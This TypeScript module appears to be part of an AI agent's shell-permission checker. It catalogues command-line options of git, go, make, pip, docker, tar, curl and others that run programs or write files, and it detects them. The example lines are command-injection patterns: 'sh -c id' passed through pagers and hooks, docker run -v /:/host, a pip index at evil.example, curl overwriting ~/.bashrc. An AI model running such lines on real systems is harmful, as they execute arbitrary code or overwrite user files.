import path from 'node:path';
import type { SimpleCommand } from '../commandAnalysis';
import { couldBeLongOption } from './scanOptions';
import { runnerProgramAt } from './wrapperSpecs';

/**
 * Options that make a program run another program, run code, or write files, when they are named on
 * its command line: `git fetch --upload-pack=…`, `go test -exec …`, `make --eval=…`, `find -delete`.
 *
 * A prefix rule (`run_command(git fetch *)`) says "this program, doing this, with any arguments"; an
 * option that hands the program another program to run turns it into a rule for that other program.
 * So a prefix never covers a line with one of these, and "Allow always" never offers a prefix for it:
 * only the exact command, which the person has read, can be allowed always.
 *
 * Each entry is taken from the program's own documentation (`doc` says where), and carries a line
 * that uses it (`example`), which its test checks.
 */
export interface ExecOptionEntry {
  program: string;
  /** Applies only after one of these subcommand words (git fetch, go test); otherwise anywhere. */
  subcommands?: readonly string[];
  /** A program-wide option that is read only before the subcommand (git -c). */
  global?: boolean;
  /** Long options, without dashes. */
  long?: readonly string[];
  /** Short option letters. */
  short?: string;
  /** Options spelled with one dash and a whole word (find -exec, go -toolexec, terraform -chdir). */
  word?: readonly string[];
  /** `NAME=value` operands set variables that decide what the program runs (make CC=…). */
  assignments?: boolean;
  /** Subcommand words that themselves run what follows (git bisect run, git submodule foreach). */
  runsWords?: readonly string[];
  /** With this many operands after the subcommand it sets a value (`git config core.pager x`). */
  valueOperands?: number;
  effect: 'runs a program' | 'runs code' | 'writes files' | 'reads code or configuration from elsewhere';
  example: string;
  doc: string;
}

/** How each program reads its options: which long options it accepts abbreviated, which globals take a value. */
interface ProgramSyntax {
  /** getopt_long, git's parse-options, argparse, optparse and nopt accept any unique prefix of a long option. */
  abbreviates: boolean;
  /** Program-wide options given their value as the next word (so that word is no subcommand). */
  globalsWithValue?: readonly string[];
  /** `--` ends only the options before the operands, and what follows is still read (find's expression, make's assignments). */
  readsPastDashDash?: boolean;
  /** The first argument is a cluster of options even without a dash (tar's old style: `tar cIf …`). */
  oldStyleFirst?: boolean;
}

const SYNTAX: Readonly<Record<string, ProgramSyntax>> = {
  git: {
    abbreviates: true,
    globalsWithValue: ['-C', '-c', '--git-dir', '--work-tree', '--namespace', '--config-env', '--super-prefix', '--attr-source'],
  },
  go: { abbreviates: false, globalsWithValue: ['-C'] },
  make: { abbreviates: true, readsPastDashDash: true },
  gmake: { abbreviates: true, readsPastDashDash: true },
  cargo: { abbreviates: false, globalsWithValue: ['-C', '--config', '-Z', '--color'] },
  npm: { abbreviates: true, globalsWithValue: ['-C', '--prefix', '-w', '--workspace'] },
  pnpm: { abbreviates: false, globalsWithValue: ['-C', '--dir', '--filter', '-F'] },
  yarn: { abbreviates: false, globalsWithValue: ['--cwd'] },
  pip: { abbreviates: true },
  pip3: { abbreviates: true },
  pytest: { abbreviates: true },
  'py.test': { abbreviates: true },
  docker: { abbreviates: false, globalsWithValue: ['-H', '--host', '-c', '--context', '--config', '-l', '--log-level'] },
  podman: { abbreviates: false, globalsWithValue: ['--url', '-c', '--connection', '--root', '--runroot'] },
  kubectl: { abbreviates: false, globalsWithValue: ['-n', '--namespace', '--context', '--kubeconfig', '-s', '--server'] },
  terraform: { abbreviates: false },
  find: { abbreviates: false, readsPastDashDash: true },
  rg: { abbreviates: false },
  tar: { abbreviates: true, oldStyleFirst: true },
  sort: { abbreviates: true },
  zip: { abbreviates: true },
  wget: { abbreviates: true },
  curl: { abbreviates: false },
  mvn: { abbreviates: false },
  cmake: { abbreviates: false },
  man: { abbreviates: true },
  bazel: { abbreviates: false },
  tox: { abbreviates: true },
  nox: { abbreviates: true },
  helm: { abbreviates: false },
  gradle: { abbreviates: false },
  eslint: { abbreviates: false },
  prettier: { abbreviates: false },
  jest: { abbreviates: false },
  vitest: { abbreviates: false },
};

/** pip's install-like subcommands and what makes them run or write elsewhere, shared by pip and pip3. */
const PIP_INSTALL = {
  subcommands: ['install', 'download', 'wheel'],
  long: [
    'index-url',
    'extra-index-url',
    'find-links',
    'target',
    'prefix',
    'root',
    'src',
    'requirement',
    'constraint',
    'config-settings',
    'global-option',
    'build-option',
    'trusted-host',
  ],
  short: 'iftrc',
  effect: 'runs code',
  doc: 'pip install: -i/--index-url, -f/--find-links install code from elsewhere; -t/--target, --prefix, --root write elsewhere; -r/-c read options from a file',
} as const satisfies Omit<ExecOptionEntry, 'program' | 'example'>;

export const EXEC_OPTIONS: readonly ExecOptionEntry[] = [
  // git: git(1), git-fetch(1), git-clone(1), git-push(1), git-rebase(1), git-archive(1) …
  {
    program: 'git',
    global: true,
    short: 'c',
    long: ['config-env'],
    effect: 'runs a program',
    example: "git -c core.pager='sh -c id' log",
    doc: 'git(1): -c <name>=<value> sets configuration such as core.pager, core.sshCommand, core.fsmonitor, each a program git runs',
  },
  {
    program: 'git',
    global: true,
    long: ['exec-path'],
    effect: 'runs a program',
    example: 'git --exec-path=/tmp/bin status',
    doc: 'git(1): --exec-path=<path> is where git finds its own programs',
  },
  {
    program: 'git',
    global: true,
    long: ['git-dir', 'work-tree'],
    effect: 'reads code or configuration from elsewhere',
    example: 'git --git-dir=vendor/x/.git log',
    doc: 'git(1): --git-dir and --work-tree pick another repository, whose configuration can name programs',
  },
  {
    program: 'git',
    subcommands: ['fetch', 'pull', 'clone', 'ls-remote', 'archive'],
    long: ['upload-pack', 'upload-archive'],
    short: 'u',
    effect: 'runs a program',
    example: "git fetch --upload-pack='sh -c id' .",
    doc: 'git-fetch(1), git-clone(1), git-ls-remote(1): --upload-pack <path>, -u: the program run on the other end, which for a local path is this machine',
  },
  {
    program: 'git',
    subcommands: ['push', 'send-pack'],
    long: ['receive-pack', 'exec'],
    effect: 'runs a program',
    example: "git push --receive-pack='sh -c id' . HEAD",
    doc: 'git-push(1): --receive-pack=<git-receive-pack>, --exec: the program run on the other end',
  },
  {
    program: 'git',
    subcommands: ['archive', 'ls-remote'],
    long: ['exec', 'remote'],
    effect: 'runs a program',
    example: "git archive --exec='sh -c id' --remote=. HEAD",
    doc: 'git-archive(1): --exec=<git-upload-archive> with --remote',
  },
  {
    program: 'git',
    subcommands: ['clone'],
    long: ['config', 'template'],
    short: 'c',
    effect: 'runs a program',
    example: 'git clone --template=/tmp/hooks https://example.com/r.git',
    doc: 'git-clone(1): --template copies hooks into the new repository; -c/--config sets its configuration',
  },
  {
    program: 'git',
    subcommands: ['init'],
    long: ['template'],
    effect: 'runs a program',
    example: 'git init --template=/tmp/hooks',
    doc: 'git-init(1): --template=<dir> copies hooks into the repository',
  },
  {
    program: 'git',
    subcommands: ['rebase'],
    long: ['exec'],
    short: 'x',
    effect: 'runs code',
    example: "git rebase -x 'sh -c id' HEAD~1",
    doc: 'git-rebase(1): --exec <cmd>, -x: runs a shell command after each commit',
  },
  {
    program: 'git',
    subcommands: ['difftool', 'mergetool'],
    long: ['extcmd', 'tool'],
    short: 'xt',
    effect: 'runs a program',
    example: "git difftool -x 'sh -c id'",
    doc: 'git-difftool(1): --extcmd=<command>, -x; --tool=<tool>, -t',
  },
  {
    program: 'git',
    subcommands: ['diff', 'log', 'show', 'format-patch', 'range-diff', 'archive', 'bundle'],
    long: ['output', 'output-directory'],
    short: 'o',
    effect: 'writes files',
    example: 'git log --output=/tmp/x',
    doc: 'git-diff(1): --output=<file>; git-format-patch(1): -o <dir>',
  },
  {
    program: 'git',
    subcommands: ['grep'],
    long: ['open-files-in-pager'],
    short: 'O',
    effect: 'runs a program',
    example: "git grep -O'sh -c id' x",
    doc: 'git-grep(1): -O[<pager>], --open-files-in-pager[=<pager>]',
  },
  {
    program: 'git',
    subcommands: ['filter-branch'],
    long: ['env-filter', 'tree-filter', 'index-filter', 'parent-filter', 'msg-filter', 'commit-filter', 'tag-name-filter'],
    effect: 'runs code',
    example: "git filter-branch --tree-filter 'sh -c id' HEAD",
    doc: 'git-filter-branch(1): every --*-filter is a shell command',
  },
  {
    program: 'git',
    subcommands: ['send-email'],
    long: ['sendmail-cmd', 'smtp-server', 'to-cmd', 'cc-cmd', 'header-cmd'],
    effect: 'runs a program',
    example: "git send-email --sendmail-cmd='sh -c id' x.patch",
    doc: 'git-send-email(1): --sendmail-cmd, --smtp-server=<path>, --to-cmd, --cc-cmd, --header-cmd run programs',
  },
  {
    program: 'git',
    subcommands: ['bisect'],
    runsWords: ['run'],
    effect: 'runs a program',
    example: "git bisect run sh -c 'id'",
    doc: 'git-bisect(1): bisect run <cmd> runs the command at every step',
  },
  {
    program: 'git',
    subcommands: ['submodule'],
    runsWords: ['foreach'],
    effect: 'runs code',
    example: "git submodule foreach 'sh -c id'",
    doc: 'git-submodule(1): foreach <command> is evaluated by the shell in each submodule',
  },
  {
    program: 'git',
    subcommands: ['config'],
    runsWords: ['set', 'unset', 'edit', 'rename-section', 'remove-section'],
    valueOperands: 2,
    long: ['add', 'replace-all', 'edit', 'file', 'global', 'system', 'unset', 'unset-all', 'rename-section', 'remove-section'],
    short: 'ef',
    effect: 'writes files',
    example: 'git config --global alias.x "!sh -c id"',
    doc: 'git-config(1): --global, --file, --add, set, edit write configuration that can name programs (core.pager, alias.* with !)',
  },
  // go: `go help build`, `go help test`, `go help run`, `go help generate`.
  {
    program: 'go',
    word: ['exec', 'toolexec', 'vettool', 'C'],
    effect: 'runs a program',
    example: "go test -exec='sh -c id' ./...",
    doc: 'go help build: -toolexec cmd args, -C dir builds another module; go help test/run: -exec xprog runs the binary through xprog; go help vet: -vettool',
  },
  {
    program: 'go',
    word: ['ldflags', 'gccgoflags', 'asmflags', 'gcflags'],
    effect: 'runs a program',
    example: "go build -ldflags='-extld=/tmp/x' .",
    doc: 'go help build: -ldflags passes -extld, the external linker the build runs',
  },
  {
    program: 'go',
    word: ['o', 'overlay', 'modfile', 'coverprofile', 'cpuprofile', 'memprofile', 'blockprofile', 'mutexprofile', 'trace', 'outputdir'],
    effect: 'writes files',
    example: 'go build -o /tmp/x .',
    doc: 'go help build: -o writes the binary where it says; -overlay and -modfile read files from elsewhere; go help testflag: the profiles and -trace write files, -outputdir says where',
  },
  {
    program: 'go',
    runsWords: ['generate'],
    effect: 'runs a program',
    example: 'go generate ./...',
    doc: 'go help generate: runs the commands written in //go:generate lines',
  },
  // GNU make: make(1).
  {
    program: 'make',
    long: ['eval', 'file', 'makefile', 'directory', 'include-dir', 'shell'],
    short: 'EfCI',
    assignments: true,
    effect: 'runs code',
    example: "make --eval='$(shell id)' all",
    doc: 'make(1): --eval=string, -E; -f file; -C dir; NAME=value on the command line overrides SHELL, CC and every variable a recipe runs',
  },
  {
    program: 'gmake',
    long: ['eval', 'file', 'makefile', 'directory', 'include-dir'],
    short: 'EfCI',
    assignments: true,
    effect: 'runs code',
    example: "gmake SHELL='/tmp/x' all",
    doc: 'make(1), as gmake',
  },
  // cargo: `cargo help build`, the Cargo Book on configuration (build.rustc-wrapper, target.<triple>.runner).
  {
    program: 'cargo',
    long: ['config'],
    short: 'Z',
    effect: 'runs a program',
    example: 'cargo --config build.rustc-wrapper=/tmp/x build',
    doc: 'cargo(1): --config KEY=VALUE sets build.rustc-wrapper, target.*.runner and other programs cargo runs; -Z unstable flags',
  },
  {
    program: 'cargo',
    long: ['manifest-path', 'target-dir', 'artifact-dir', 'out-dir', 'root'],
    effect: 'writes files',
    example: 'cargo build --target-dir=/tmp/t',
    doc: 'cargo-build(1): --manifest-path builds another package (its build.rs runs); --target-dir, --artifact-dir write elsewhere',
  },
  // npm: npm-config(7); every option is a config key.
  {
    program: 'npm',
    long: [
      'script-shell',
      'shell',
      'git',
      'editor',
      'browser',
      'viewer',
      'node-options',
      'userconfig',
      'globalconfig',
      'init-module',
      'call',
      'prefix',
      'cache',
      'node-gyp',
    ],
    short: 'cC',
    effect: 'runs a program',
    example: "npm test --script-shell='/tmp/x'",
    doc: 'npm-config(7): script-shell, shell, git, editor, browser, node-options, node-gyp name programs npm runs; userconfig/globalconfig load another npmrc; prefix/-C run another package',
  },
  {
    program: 'pnpm',
    long: ['script-shell', 'shell-emulator', 'node-options', 'dir', 'config', 'global-dir'],
    short: 'C',
    effect: 'runs a program',
    example: "pnpm test --script-shell='/tmp/x'",
    doc: 'pnpm docs (.npmrc settings, also as flags): script-shell, node-options; --dir/-C runs another package',
  },
  {
    program: 'yarn',
    long: ['cwd', 'script-shell', 'use-yarnrc'],
    effect: 'runs a program',
    example: 'yarn --cwd /tmp/other test',
    doc: "yarn classic CLI: --cwd runs another package's scripts; --use-yarnrc loads another yarnrc",
  },
  // pip: `pip install --help`; pip3 is the same program.
  { program: 'pip', ...PIP_INSTALL, example: 'pip install --index-url=http://evil.example/simple x' },
  { program: 'pip3', ...PIP_INSTALL, example: 'pip3 install -t /tmp/x requests' },
  // pytest: `pytest --help`.
  {
    program: 'pytest',
    long: [
      'config-file',
      'override-ini',
      'basetemp',
      'junitxml',
      'junit-xml',
      'rootdir',
      'pastebin',
      'result-log',
      'log-file',
      'confcutdir',
      'debug',
    ],
    short: 'pco',
    effect: 'runs code',
    example: 'pytest -p evil_plugin tests',
    doc: 'pytest --help: -p name loads a plugin module; -c/--config-file and -o/--override-ini change addopts; --basetemp deletes and writes a folder; --junitxml writes a file; --pastebin sends results out',
  },
  {
    program: 'py.test',
    long: ['config-file', 'override-ini', 'basetemp', 'junitxml', 'junit-xml', 'rootdir', 'pastebin'],
    short: 'pco',
    effect: 'runs code',
    example: 'py.test -o addopts=-pevil tests',
    doc: 'pytest, as py.test',
  },
  // docker: docker-run(1), docker(1).
  {
    program: 'docker',
    global: true,
    long: ['host', 'context', 'config'],
    short: 'Hc',
    effect: 'reads code or configuration from elsewhere',
    example: 'docker -H ssh://other ps',
    doc: 'docker(1): -H/--host, -c/--context pick another daemon; --config another config folder with credential helpers',
  },
  {
    program: 'docker',
    subcommands: ['run', 'create', 'exec'],
    long: ['volume', 'mount', 'privileged', 'cap-add', 'device', 'pid', 'userns', 'security-opt', 'entrypoint', 'volumes-from'],
    short: 'v',
    effect: 'runs a program',
    example: 'docker run -v /:/host alpine id',
    doc: 'docker-run(1): -v/--volume, --mount share host folders; --privileged, --cap-add, --device, --pid=host, --security-opt leave the container; --entrypoint picks the program',
  },
  {
    program: 'docker',
    subcommands: ['build', 'buildx'],
    long: ['output', 'build-context', 'secret', 'ssh'],
    short: 'o',
    effect: 'writes files',
    example: 'docker build -o /tmp/out .',
    doc: 'docker-build(1): -o/--output writes files; --build-context, --secret, --ssh hand in host files',
  },
  {
    program: 'podman',
    subcommands: ['run', 'create', 'exec'],
    long: ['volume', 'mount', 'privileged', 'cap-add', 'device', 'pid', 'userns', 'security-opt', 'entrypoint'],
    short: 'v',
    effect: 'runs a program',
    example: 'podman run --privileged alpine id',
    doc: 'podman-run(1): as docker run',
  },
  // kubectl: kubectl(1); a kubeconfig's users[].user.exec is a program kubectl runs.
  {
    program: 'kubectl',
    long: ['kubeconfig'],
    effect: 'runs a program',
    example: 'kubectl --kubeconfig=/tmp/k get pods',
    doc: 'kubectl options: --kubeconfig names a file whose exec credential plugin kubectl runs',
  },
  {
    program: 'kubectl',
    subcommands: ['kustomize', 'apply', 'create', 'diff'],
    long: ['enable-exec', 'enable-helm', 'helm-command'],
    effect: 'runs a program',
    example: 'kubectl kustomize --enable-exec .',
    doc: 'kubectl kustomize: --enable-exec runs exec KRM functions; --enable-helm with --helm-command runs helm',
  },
  // terraform: terraform(1) -chdir, `terraform plan -help`.
  {
    program: 'terraform',
    word: ['chdir', 'plugin-dir', 'out', 'state-out', 'backup', 'state'],
    effect: 'runs a program',
    example: 'terraform -chdir=/tmp/other plan',
    doc: 'terraform: -chdir runs another configuration and its providers; -plugin-dir loads providers from a folder; -out, -state-out, -backup write files',
  },
  // find: find(1), ACTIONS.
  {
    program: 'find',
    word: ['exec', 'execdir', 'ok', 'okdir'],
    effect: 'runs a program',
    example: 'find . -exec rm {} +',
    doc: 'find(1): -exec, -execdir, -ok, -okdir run a command',
  },
  {
    program: 'find',
    word: ['delete', 'fprint', 'fprint0', 'fprintf', 'fls'],
    effect: 'writes files',
    example: 'find . -name "*.o" -delete',
    doc: 'find(1): -delete deletes; -fprint, -fprint0, -fprintf, -fls write to a file',
  },
  // ripgrep: rg --help.
  {
    program: 'rg',
    long: ['pre', 'hostname-bin'],
    effect: 'runs a program',
    example: "rg --pre='/tmp/x' foo",
    doc: 'rg --help: --pre COMMAND runs a program for every file searched; --hostname-bin runs one',
  },
  // GNU tar: tar(1).
  {
    program: 'tar',
    long: ['to-command', 'use-compress-program', 'rsh-command', 'info-script', 'new-volume-script', 'checkpoint-action', 'rmt-command'],
    short: 'IF',
    effect: 'runs a program',
    example: "tar -xf a.tar --to-command='sh -c id'",
    doc: 'tar(1): --to-command, -I/--use-compress-program, --rsh-command, -F/--info-script, --checkpoint-action=exec run programs',
  },
  // GNU sort: sort(1).
  {
    program: 'sort',
    long: ['compress-program', 'output'],
    short: 'o',
    effect: 'runs a program',
    example: "sort --compress-program='/tmp/x' a",
    doc: 'sort(1): --compress-program=PROG runs a program; -o/--output writes a file',
  },
  // Info-ZIP zip: zip(1).
  {
    program: 'zip',
    long: ['unzip-command'],
    short: 'T',
    effect: 'runs a program',
    example: "zip -T -TT 'sh -c id' a.zip a",
    doc: 'zip(1): -TT/--unzip-command cmd runs a program to test the archive',
  },
  // wget: wget(1).
  {
    program: 'wget',
    long: ['execute', 'use-askpass', 'config'],
    short: 'e',
    effect: 'runs a program',
    example: "wget --use-askpass='/tmp/x' https://example.com",
    doc: 'wget(1): -e/--execute runs a .wgetrc command; --use-askpass runs a program; --config reads another wgetrc',
  },
  {
    program: 'wget',
    long: ['output-document', 'directory-prefix', 'output-file', 'append-output'],
    short: 'OPoa',
    effect: 'writes files',
    example: 'wget -O ~/.bashrc https://example.com/x',
    doc: 'wget(1): -O, -P, -o, -a write files (-O - writes to standard output)',
  },
  // curl: curl(1).
  {
    program: 'curl',
    long: [
      'output',
      'remote-name',
      'remote-name-all',
      'config',
      'create-dirs',
      'output-dir',
      'dump-header',
      'cookie-jar',
      'trace',
      'trace-ascii',
      'stderr',
    ],
    short: 'oOKDc',
    effect: 'writes files',
    example: 'curl -o ~/.bashrc https://example.com/x',
    doc: 'curl(1): -o/--output, -O, -D, -c write files; -K/--config reads options from a file',
  },
  // Maven: mvn --help.
  {
    program: 'mvn',
    long: ['file', 'settings', 'global-settings', 'toolchains', 'define'],
    short: 'fsD',
    effect: 'runs code',
    example: 'mvn test -Dexec.executable=sh',
    doc: 'mvn --help: -f another POM (its plugins run); -s/-gs another settings file; -D sets properties that configure plugins, such as exec.executable or jvm',
  },
  // Gradle: gradle --help.
  {
    program: 'gradle',
    long: ['init-script', 'build-file', 'settings-file', 'project-dir', 'include-build', 'system-prop'],
    short: 'IbcpD',
    effect: 'runs code',
    example: 'gradle -I /tmp/init.gradle test',
    doc: 'gradle --help: -I/--init-script runs a script; -b, -c, -p, --include-build run another build; -D sets system properties such as org.gradle.java.home',
  },
  // CMake: cmake(1).
  {
    program: 'cmake',
    short: 'EPDC',
    long: ['toolchain', 'install-prefix'],
    effect: 'runs a program',
    example: 'cmake -E rm -rf build',
    doc: 'cmake(1): -E runs a command-line tool (rm, copy, env <cmd>…); -P runs a script; -D sets cache entries such as CMAKE_C_COMPILER; -C loads a script; --toolchain names a file of code',
  },
  // man: man(1).
  {
    program: 'man',
    long: ['pager', 'html', 'config-file', 'preprocessor'],
    short: 'PHCp',
    effect: 'runs a program',
    example: "man -P 'sh -c id' ls",
    doc: 'man(1): -P/--pager, -H/--html name the program that shows the page; -C another configuration; -p preprocessors',
  },
  // Bazel, tox, nox, Helm: their command-line references.
  {
    program: 'bazel',
    long: ['run_under', 'script_path', 'bazelrc', 'override_repository', 'experimental_action_listener'],
    effect: 'runs a program',
    example: "bazel test --run_under='sh -c id' //...",
    doc: 'Bazel command-line reference: --run_under runs tests through a program; --script_path writes a script; --bazelrc loads options',
  },
  {
    program: 'tox',
    long: ['override', 'conf', 'root', 'workdir', 'installpkg'],
    short: 'xc',
    effect: 'runs code',
    example: "tox -x 'testenv.commands=sh -c id'",
    doc: 'tox CLI: -x/--override sets configuration such as commands; -c/--conf another configuration',
  },
  {
    program: 'nox',
    long: ['noxfile', 'envdir'],
    short: 'f',
    effect: 'runs code',
    example: 'nox -f /tmp/noxfile.py',
    doc: 'nox CLI: -f/--noxfile runs another noxfile',
  },
  {
    program: 'helm',
    long: ['post-renderer', 'kubeconfig', 'plugins', 'repository-config'],
    effect: 'runs a program',
    example: 'helm template . --post-renderer /tmp/x',
    doc: 'helm: --post-renderer runs a program on the rendered manifests; --kubeconfig can name an exec credential plugin',
  },
  // ESLint, Prettier, Jest, Vitest: their CLI references.
  {
    program: 'eslint',
    long: ['rulesdir', 'plugin', 'config', 'resolve-plugins-relative-to', 'output-file', 'fix', 'fix-type'],
    short: 'co',
    effect: 'runs code',
    example: 'eslint --rulesdir /tmp/rules src',
    doc: 'ESLint CLI: --rulesdir, --plugin, -c load code; -o writes a file; --fix rewrites files',
  },
  {
    program: 'prettier',
    long: ['write', 'plugin', 'config'],
    short: 'w',
    effect: 'writes files',
    example: 'prettier --write .',
    doc: 'Prettier CLI: --write rewrites files; --plugin and --config load code',
  },
  {
    program: 'jest',
    long: [
      'config',
      'testRunner',
      'reporters',
      'outputFile',
      'globalSetup',
      'globalTeardown',
      'testResultsProcessor',
      'setupFiles',
      'rootDir',
    ],
    short: 'c',
    effect: 'runs code',
    example: 'jest --globalSetup=/tmp/x.js',
    doc: 'Jest CLI: --config, --testRunner, --reporters, --globalSetup load code; --outputFile writes a file',
  },
  {
    program: 'vitest',
    long: ['config', 'reporter', 'outputFile', 'globalSetup', 'setupFiles', 'root', 'dir'],
    short: 'cr',
    effect: 'runs code',
    example: 'vitest run --reporter=/tmp/r.js',
    doc: 'Vitest CLI: --config, --reporter (a module path), --globalSetup load code; --outputFile writes a file',
  },
];

const BY_PROGRAM = new Map<string, ExecOptionEntry[]>();
for (const entry of EXEC_OPTIONS) BY_PROGRAM.set(entry.program, [...(BY_PROGRAM.get(entry.program) ?? []), entry]);

export interface ExecOptionFound {
  /** The argument as written. */
  argument: string;
  /** What it makes the program do; an argument only known when it runs could do anything. */
  effect: ExecOptionEntry['effect'];
  /** For the person and the model: `git fetch --upload-pack runs a program`. */
  why: string;
}

/** What the analysis knows of the words besides their text. */
export interface ArgumentFacts {
  /** argv indices of words only known when the command runs (an expansion, a glob, a word find fills in). */
  unknown?: readonly number[];
  /** xargs appends arguments read from its input. */
  appended?: boolean;
}

/**
 * The first exec-option on the line, or why a word only known when it runs could be one. `argv[0]` is
 * the program as it runs (a path counts by its base name).
 */
export function findExecOption(argv: readonly string[], facts: ArgumentFacts = {}): ExecOptionFound | undefined {
  // A runner's own options count as well as those of the program it runs: npm reads
  // `npm exec eslint --script-shell=…` as its own option, wherever it stands before `--`.
  const own = ownExecOption(argv, facts);
  if (own) return own;
  const ran = runThrough(argv);
  if (ran === 0) return undefined;
  const shifted = (facts.unknown ?? []).filter((index) => index >= ran).map((index) => index - ran);
  return findExecOption(argv.slice(ran), { ...facts, unknown: shifted });
}

/** The first exec-option of argv's own program, whose entries the table holds. */
function ownExecOption(argv: readonly string[], facts: ArgumentFacts): ExecOptionFound | undefined {
  const program = argv[0] === undefined ? undefined : path.posix.basename(argv[0]);
  const entries = program === undefined ? undefined : BY_PROGRAM.get(program);
  if (program === undefined || !entries) return undefined;
  const syntax = SYNTAX[program] ?? { abbreviates: false };
  if (syntax.oldStyleFirst && argv[1] !== undefined && !argv[1].startsWith('-') && !(facts.unknown ?? []).includes(1)) {
    return ownExecOption([argv[0]!, `-${argv[1]}`, ...argv.slice(2)], facts);
  }
  const unknown = new Set(facts.unknown ?? []);
  const operands: string[] = [];
  let firstOperand = -1;
  let optionsEnded = false;
  for (let i = 1; i < argv.length; i++) {
    const arg = argv[i]!;
    if (arg === '--' && !optionsEnded) {
      if (!syntax.readsPastDashDash) break;
      optionsEnded = true;
      continue;
    }
    const isOption = arg.startsWith('-') && arg !== '-' && !unknown.has(i) && !(optionsEnded && program === 'make');
    if (isOption) {
      if (firstOperand < 0 && syntax.globalsWithValue?.includes(arg)) i++;
      continue;
    }
    if (firstOperand < 0) firstOperand = i;
    operands.push(arg);
    // Which entries apply: program-wide ones, globals before the subcommand, and those of a subcommand already seen.
    const applying = entries.filter((entry) => applies(entry, operands.slice(0, -1), firstOperand < 0 || i <= firstOperand));
    if (unknown.has(i) && applying.length > 0) {
      return {
        argument: arg,
        effect: 'runs a program',
        why: `${program}'s argument ${arg} is only known when it runs and could be an option that makes it run another program or write files`,
      };
    }
    for (const entry of applying) {
      // A word that runs what follows counts as the subcommand itself (go generate) or right after it (git bisect run).
      if (entry.runsWords?.includes(arg) && (entry.subcommands !== undefined || operands.length === 1)) {
        return { argument: arg, effect: entry.effect, why: `${[program, ...operands].join(' ')} ${entry.effect}` };
      }
      if (entry.valueOperands !== undefined && entry.subcommands && operands.length - 1 >= entry.valueOperands) {
        return {
          argument: arg,
          effect: entry.effect,
          why: `${[program, ...operands].join(' ')} sets a value that can name a program to run`,
        };
      }
      if (entry.assignments && /^[A-Za-z_.][A-Za-z0-9_.]*\s*[+:?!]*=/.test(arg)) {
        return { argument: arg, effect: 'runs code', why: `${program}'s ${arg} sets a variable that can change what its recipes run` };
      }
    }
  }
  if (facts.appended && entries.some((entry) => !entry.global)) {
    return {
      argument: '(the words xargs appends)',
      effect: 'runs a program',
      why: `xargs appends words to ${program} that could be an option that makes it run another program or write files`,
    };
  }
  for (let i = 1; i < argv.length; i++) {
    const arg = argv[i]!;
    if (arg === '--' && !syntax.readsPastDashDash) break;
    if (!arg.startsWith('-') || arg === '-' || arg === '--' || unknown.has(i)) continue;
    const beforeSubcommand = firstOperand < 0 || i < firstOperand;
    const seen = argv.slice(1, i).filter((word, k) => !word.startsWith('-') && !unknown.has(k + 1));
    for (const entry of entries) {
      if (!applies(entry, seen, beforeSubcommand) || !usesEntryOption(arg, entry, syntax)) continue;
      // `-O -`, `-o-`, `--output=-`: standard output, no file.
      if (entry.effect === 'writes files' && (/^-[A-Za-z]+-$|=-$/.test(arg) || (argv[i + 1] === '-' && !arg.includes('=')))) continue;
      const where = entry.subcommands ? `${program} ${seen.find((word) => entry.subcommands!.includes(word)) ?? ''}`.trim() : program;
      return { argument: arg, effect: entry.effect, why: `${where} ${arg.split('=', 1)[0]} ${describe(entry.effect)}` };
    }
  }
  return undefined;
}

/** The exec-option of one simple command the analysis found, with what it knows of its words. */
export function execOptionIn(command: Pick<SimpleCommand, 'argv' | 'unknownArgs' | 'argumentsAppended'>): ExecOptionFound | undefined {
  return findExecOption(command.argv, {
    ...(command.unknownArgs ? { unknown: command.unknownArgs } : {}),
    ...(command.argumentsAppended ? { appended: true } : {}),
  });
}

/**
 * How many words of argv go to a runner before the program it runs, when that program has entries
 * in the table (`python -m pytest`, `uv run pytest`, `npx vitest`, `yarn jest`): 0 when none.
 */
function runThrough(argv: readonly string[]): number {
  const program = argv[0] === undefined ? '' : path.posix.basename(argv[0]);
  if (/^python[0-9.]*$/.test(program)) {
    const module = argv.indexOf('-m');
    return module > 0 && BY_PROGRAM.has(argv[module + 1] ?? '') ? module + 1 : 0;
  }
  const at = runnerProgramAt(argv, (word) => BY_PROGRAM.has(word));
  return at !== undefined && BY_PROGRAM.has(path.posix.basename(argv[at]!)) ? at : 0;
}

function applies(entry: ExecOptionEntry, operandsBefore: readonly string[], beforeSubcommand: boolean): boolean {
  if (entry.global) return beforeSubcommand;
  if (!entry.subcommands) return true;
  return operandsBefore.some((word) => entry.subcommands!.includes(word));
}

function usesEntryOption(arg: string, entry: ExecOptionEntry, syntax: ProgramSyntax): boolean {
  if (arg.startsWith('--')) {
    const written = arg.slice(2).split('=', 1)[0]!;
    if (entry.word?.includes(written)) return true;
    return (entry.long ?? []).some((name) => (syntax.abbreviates ? couldBeLongOption(arg, name) : written === name));
  }
  const body = arg.slice(1);
  if (entry.word) {
    const name = body.split('=', 1)[0]!;
    if (entry.word.includes(name)) return true;
  }
  // Short letters: any of them in a cluster counts (a value glued to an earlier letter can look like one: a needless question, never a miss).
  if (!entry.short || /^\d/.test(body)) return false;
  return [...body].some((letter) => entry.short!.includes(letter));
}

function describe(effect: ExecOptionEntry['effect']): string {
  switch (effect) {
    case 'runs a program':
      return 'makes it run a program named on the line';
    case 'runs code':
      return 'makes it run code named on the line';
    case 'writes files':
      return 'makes it write files named on the line';
    case 'reads code or configuration from elsewhere':
      return 'makes it load code or configuration from elsewhere';
  }
}
